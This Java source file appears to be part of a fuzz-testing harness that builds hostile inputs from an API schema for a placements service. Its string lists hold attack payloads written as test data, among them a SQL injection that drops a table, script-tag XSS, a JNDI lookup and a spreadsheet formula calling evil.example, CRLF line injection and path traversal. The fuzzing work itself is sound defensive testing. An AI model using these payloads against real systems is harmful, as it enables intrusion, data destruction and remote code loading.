package nl.bis.placements.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.swagger.v3.oas.models.media.Schema;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/**
 * The hostile values, derived from a schema: wrong JSON types, strings that break length, pattern, format and
 * encoding expectations, numbers at and beyond their bounds, unknown enum values, malformed dates, hostile path
 * segments, query values and malformed bodies. None of them contains a text the leak check looks for.
 */
final class Hostile {

    static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    record Named<T>(String label, T value) {
    }

    /** A line that must never appear on a line of its own in a CSV or iCalendar answer (line injection). */
    static final String INJECTED_LINE = "ATTENDEE:mailto:injected@evil.example";

    private Hostile() {
    }

    static String typeOf(Schema<?> schema) {
        if (schema == null) {
            return "any";
        }
        if (schema.getType() != null) {
            return schema.getType();
        }
        if (schema.getTypes() != null && !schema.getTypes().isEmpty()) {
            return schema.getTypes().iterator().next();
        }
        if (schema.getProperties() != null) {
            return "object";
        }
        return "any";
    }

    // ------------------------------------------------------------------------------------------ body values

    /** Every JSON type the member does not have: string, number, boolean, array, object and null. */
    static List<Named<JsonNode>> wrongTypes(Schema<?> schema) {
        String type = typeOf(schema);
        List<Named<JsonNode>> values = new ArrayList<>();
        if (!type.equals("string")) {
            values.add(new Named<>("type:string", NODES.textNode("fuzz")));
        }
        if (!type.equals("integer") && !type.equals("number")) {
            values.add(new Named<>("type:number", NODES.numberNode(12345)));
        }
        if (!type.equals("boolean")) {
            values.add(new Named<>("type:boolean", NODES.booleanNode(true)));
        }
        if (!type.equals("array")) {
            values.add(new Named<>("type:array", NODES.arrayNode().add("fuzz")));
        }
        if (!type.equals("object")) {
            values.add(new Named<>("type:object", NODES.objectNode().put("fuzz", 1)));
        }
        values.add(new Named<>("type:null", NODES.nullNode()));
        return values;
    }

    /** Values of the right JSON type that break the member's constraints or are hostile text. */
    static List<Named<JsonNode>> values(Schema<?> schema) {
        List<Named<JsonNode>> values = new ArrayList<>();
        String type = typeOf(schema);
        switch (type) {
            case "string" -> strings(schema).forEach(s -> values.add(new Named<>(s.label(), NODES.textNode(s.value()))));
            case "integer", "number" -> values.addAll(numbers(schema));
            case "boolean" -> {
                values.add(new Named<>("bool:string", NODES.textNode("true")));
                values.add(new Named<>("bool:one", NODES.numberNode(1)));
            }
            case "array" -> {
                values.add(new Named<>("array:empty", NODES.arrayNode()));
                ArrayNode wrongItems = NODES.arrayNode();
                wrongItems.addNull().add(1).add("fuzz").addArray();
                values.add(new Named<>("array:hostile-items", wrongItems));
                if (schema.getMaxItems() != null) {
                    ArrayNode tooMany = NODES.arrayNode();
                    for (int i = 0; i <= schema.getMaxItems(); i++) {
                        tooMany.addObject();
                    }
                    values.add(new Named<>("array:maxItems+1", tooMany));
                }
            }
            case "object" -> {
                values.add(new Named<>("object:empty", NODES.objectNode()));
                ObjectNode unknown = NODES.objectNode();
                unknown.put("fuzzUnknownMember", "x");
                values.add(new Named<>("object:unknown-member-only", unknown));
            }
            default -> {
            }
        }
        return values;
    }

    /**
     * Every value an enumerated parameter's schema allows, followed by the hostile ones (which include values that
     * are not in the enum): the answer to each must be one the contract describes.
     */
    static List<Named<String>> withEnumValues(Schema<?> schema, List<Named<String>> hostile) {
        List<Named<String>> values = new ArrayList<>();
        if (schema != null && schema.getEnum() != null) {
            schema.getEnum().forEach(value -> values.add(new Named<>("enum:valid " + value, String.valueOf(value))));
        }
        values.addAll(hostile);
        return values;
    }

    /** Hostile strings for a string member or parameter, chosen by its enum, format and pattern. */
    static List<Named<String>> strings(Schema<?> schema) {
        return strings(schema, 20_000);
    }

    /**
     * Hostile strings; {@code long} is the length of the over-long string when the schema sets no maxLength (in a
     * query it stays below the HTTP server's request-line limit, which is probed once per operation on its own).
     */
    static List<Named<String>> strings(Schema<?> schema, int length) {
        List<Named<String>> values = new ArrayList<>();
        values.add(new Named<>("str:empty", ""));
        values.add(new Named<>("str:blank", "   "));
        Integer max = schema == null ? null : schema.getMaxLength();
        values.add(max != null
                ? new Named<>("str:maxLength+1", "x".repeat(max + 1))
                : new Named<>("str:" + length / 1000 + "k", "x".repeat(length)));
        if (max != null) {
            // The longest valid values: whatever the service derives from them must still fit where it is stored.
            values.add(new Named<>("str:maxLength", "x".repeat(max)));
            values.add(new Named<>("str:maxLength-umlauts", "ë".repeat(max)));
        }
        Integer min = schema == null ? null : schema.getMinLength();
        if (min != null && min > 1) {
            values.add(new Named<>("str:minLength-1", "x".repeat(min - 1)));
            values.add(new Named<>("str:minLength", "x".repeat(min)));
        }
        values.add(new Named<>("str:unicode", "Zoë Ünïcødé 😀 北京 مرحبا \u202Eevil"));
        values.add(new Named<>("str:sql", "x' OR '1'='1'; DROP TABLE placement; --"));
        values.add(new Named<>("str:html", "<script>alert(1)</script><img src=x onerror=alert(1)>"));
        values.add(new Named<>("str:nul", "abc\u0000def"));
        values.add(new Named<>("str:control", "\u0001\u0007\u001b[31m\r\n\t\u007f"));
        values.add(new Named<>("str:lone-cr", "Evening\rBEGIN:VEVENT"));
        values.add(new Named<>("str:next-line", "Evening\u0085x"));
        values.add(new Named<>("str:line-separator", "Evening\u2028x\u2029y"));
        values.add(new Named<>("str:lone-surrogate", "abc\uD800def"));
        values.add(new Named<>("str:formula", "=HYPERLINK(\"http://evil.example\",\"x\")"));
        values.add(new Named<>("str:jndi", "${jndi:ldap://evil.example/a}"));
        values.add(new Named<>("str:line-injection", "x\r\n" + INJECTED_LINE));
        if (schema != null && schema.getEnum() != null && !schema.getEnum().isEmpty()) {
            String first = String.valueOf(schema.getEnum().get(0));
            values.add(new Named<>("enum:unknown", "NOT_A_VALUE"));
            values.add(new Named<>("enum:lowercase", first.toLowerCase(Locale.ROOT)));
            values.add(new Named<>("enum:padded", " " + first + " "));
        }
        String format = schema == null ? null : schema.getFormat();
        String pattern = schema == null ? null : schema.getPattern();
        if ("date".equals(format)) {
            values.addAll(dates());
        } else if ("date-time".equals(format)) {
            values.addAll(dateTimes());
        } else if ("email".equals(format)) {
            values.add(new Named<>("email:no-at", "not-an-email"));
            values.add(new Named<>("email:only-at", "@"));
            values.add(new Named<>("email:long", "x".repeat(400) + "@example.org"));
        }
        if (pattern != null) {
            values.add(new Named<>("pattern:violated", "!! not matching !!"));
            if (pattern.contains("T\\d{2}:\\d{2}")) {
                values.addAll(localDateTimes());
            } else if (pattern.startsWith("^P")) {
                values.addAll(periods());
            } else if (pattern.contains("[A-Z]{2}")) {
                values.add(new Named<>("country:lowercase", "gh"));
                values.add(new Named<>("country:unknown", "XX"));
                values.add(new Named<>("country:three", "GHA"));
            } else {
                values.add(new Named<>("pattern:space", "ab cd"));
                values.add(new Named<>("pattern:umlaut", "Müller1"));
            }
        }
        return values;
    }

    static List<Named<String>> dates() {
        return List.of(
                new Named<>("date:feb30", "2027-02-30"),
                new Named<>("date:dmy", "31-12-2027"),
                new Named<>("date:now", "now"),
                new Named<>("date:month13", "2027-13-01"),
                new Named<>("date:short", "2027-1-5"),
                new Named<>("date:datetime", "2027-01-10T10:00:00Z"),
                new Named<>("date:year0", "0000-01-01"),
                new Named<>("date:9999", "9999-12-31"),
                new Named<>("date:+10000", "+10000-01-01"),
                new Named<>("date:max", "+999999999-12-31"),
                new Named<>("date:min", "-999999999-01-01"));
    }

    static List<Named<String>> dateTimes() {
        return List.of(
                new Named<>("datetime:feb30", "2027-02-30T10:00:00+01:00"),
                new Named<>("datetime:now", "now"),
                new Named<>("datetime:no-offset", "2027-01-05T10:00:00"),
                new Named<>("datetime:date-only", "2027-01-05"),
                new Named<>("datetime:offset+25", "2027-01-05T10:00:00+25:00"),
                new Named<>("datetime:epoch", "1970-01-01T00:00:00Z"),
                new Named<>("datetime:max", "+999999999-12-31T23:59:59Z"),
                new Named<>("datetime:min", "-999999999-01-01T00:00:00Z"));
    }

    static List<Named<String>> localDateTimes() {
        return List.of(
                new Named<>("local:dst-gap", "2096-03-25T02:30"),
                new Named<>("local:feb30", "2096-02-30T19:00"),
                new Named<>("local:hour25", "2096-03-01T25:00"),
                new Named<>("local:seconds", "2096-03-01T19:00:00"),
                new Named<>("local:offset", "2096-03-01T19:00+01:00"),
                new Named<>("local:year0", "0000-01-01T19:00"),
                new Named<>("local:9999", "9999-12-31T23:59"));
    }

    static List<Named<String>> periods() {
        return List.of(
                new Named<>("period:zero", "P0M"),
                new Named<>("period:time", "PT5H"),
                new Named<>("period:bare", "P"),
                new Named<>("period:negative", "-P6M"),
                new Named<>("period:lowercase", "p6m"),
                new Named<>("period:int-max-months", "P2147483647M"),
                new Named<>("period:overflow", "P99999999999M"),
                new Named<>("period:huge-years", "P999999Y"),
                new Named<>("period:mixed", "P1Y2M3W4D"));
    }

    static List<Named<JsonNode>> numbers(Schema<?> schema) {
        List<Named<JsonNode>> values = new ArrayList<>();
        values.add(new Named<>("num:0", NODES.numberNode(0)));
        values.add(new Named<>("num:-1", NODES.numberNode(-1)));
        values.add(new Named<>("num:2^31-1", NODES.numberNode(Integer.MAX_VALUE)));
        values.add(new Named<>("num:2^31", NODES.numberNode(1L << 31)));
        values.add(new Named<>("num:2^63", NODES.numberNode(BigInteger.ONE.shiftLeft(63))));
        values.add(new Named<>("num:-2^63-1", NODES.numberNode(BigInteger.ONE.shiftLeft(63).negate().subtract(BigInteger.ONE))));
        values.add(new Named<>("num:1e309", NODES.numberNode(new BigDecimal("1e309"))));
        values.add(new Named<>("num:fraction", NODES.numberNode(1.5)));
        values.add(new Named<>("num:NaN-string", NODES.textNode("NaN")));
        values.add(new Named<>("num:numeric-string", NODES.textNode("7")));
        if (schema.getMinimum() != null) {
            values.add(new Named<>("num:min-1", NODES.numberNode(schema.getMinimum().subtract(BigDecimal.ONE))));
            values.add(new Named<>("num:min", NODES.numberNode(schema.getMinimum())));
        }
        if (schema.getMaximum() != null) {
            values.add(new Named<>("num:max", NODES.numberNode(schema.getMaximum())));
            values.add(new Named<>("num:max+1", NODES.numberNode(schema.getMaximum().add(BigDecimal.ONE))));
        }
        return values;
    }

    // ------------------------------------------------------------------------------------------ query and path

    /** Hostile query values (decoded; {@link #encode} them). */
    static List<Named<String>> queryValues(Schema<?> schema) {
        String type = typeOf(schema);
        List<Named<String>> values = new ArrayList<>();
        switch (type) {
            case "integer", "number" -> {
                for (String v : List.of("0", "-1", "2147483647", "2147483648", "9223372036854775807",
                        "9223372036854775808", "1e309", "NaN", "1.5", "abc", "", " 5", "0x10")) {
                    values.add(new Named<>("q:" + v, v));
                }
            }
            case "boolean" -> {
                for (String v : List.of("yes", "1", "TRUE", "", "null", "true,false")) {
                    values.add(new Named<>("q:" + v, v));
                }
            }
            default -> {
                values.addAll(strings(schema, 3_000));
                if (schema == null || schema.getEnum() == null) {
                    values.add(new Named<>("q:unknown-code", "NOT_A_VALUE"));
                    values.add(new Named<>("q:lowercase-code", "approved"));
                }
            }
        }
        return values;
    }

    /**
     * Hostile path segments, already percent-encoded as they go on the wire. The matrix-parameter variant keeps the
     * seeded id: the server drops {@code ;...}, so it reaches real data.
     */
    static List<Named<String>> pathValues(Schema<?> schema, String existing) {
        List<Named<String>> values = new ArrayList<>();
        boolean numeric = List.of("integer", "number").contains(typeOf(schema));
        if (numeric) {
            values.add(new Named<>("path:long-max", "9223372036854775807"));
            values.add(new Named<>("path:long-overflow", "9223372036854775808"));
            values.add(new Named<>("path:negative", "-1"));
            values.add(new Named<>("path:zero", "0"));
            values.add(new Named<>("path:fraction", "1.5"));
            values.add(new Named<>("path:exponent", "1e3"));
        } else {
            values.add(new Named<>("path:too-long", "A".repeat(65)));
            values.add(new Named<>("path:lowercase", "gh"));
            values.add(new Named<>("path:well-formed-unknown", "QQ"));
            values.add(new Named<>("path:sql", encode("1' OR '1'='1")));
        }
        values.add(new Named<>("path:abc", "abc"));
        values.add(new Named<>("path:nul", "%00"));
        values.add(new Named<>("path:traversal", ".."));
        values.add(new Named<>("path:traversal-slash", "../"));
        values.add(new Named<>("path:encoded-slash", "..%2F..%2Fetc"));
        values.add(new Named<>("path:unicode", encode("é😀")));
        values.add(new Named<>("path:space", "%20"));
        values.add(new Named<>("path:semicolon", encode(existing) + ";jsessionid=x"));
        return values;
    }

    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    // ------------------------------------------------------------------------------------------ whole bodies

    static List<Named<byte[]>> malformedBodies() {
        List<Named<byte[]>> bodies = new ArrayList<>();
        for (String[] b : new String[][] {
            {"body:truncated", "{"},
            {"body:array", "[]"},
            {"body:null", "null"},
            {"body:string", "\"fuzz\""},
            {"body:number", "123"},
            {"body:empty", ""},
            {"body:bad-value", "{\"a\":}"},
            {"body:single-quotes", "{'a':'b'}"},
            {"body:trailing-garbage", "{}x"},
            {"body:comment", "/* c */ {}"},
            {"body:long-number", "{\"a\": 1" + "0".repeat(5000) + "}"},
            {"body:long-name", "{\"" + "k".repeat(100_000) + "\": 1}"},
        }) {
            bodies.add(new Named<>(b[0], b[1].getBytes(StandardCharsets.UTF_8)));
        }
        bodies.add(new Named<>("body:nested-arrays-10k", ("[".repeat(10_000) + "]".repeat(10_000)).getBytes(StandardCharsets.UTF_8)));
        bodies.add(new Named<>("body:nested-objects-10k",
                ("{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)).getBytes(StandardCharsets.UTF_8)));
        bodies.add(new Named<>("body:invalid-utf8", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}));
        bodies.add(new Named<>("body:utf16", "{\"a\":\"b\"}".getBytes(StandardCharsets.UTF_16)));
        return bodies;
    }
}
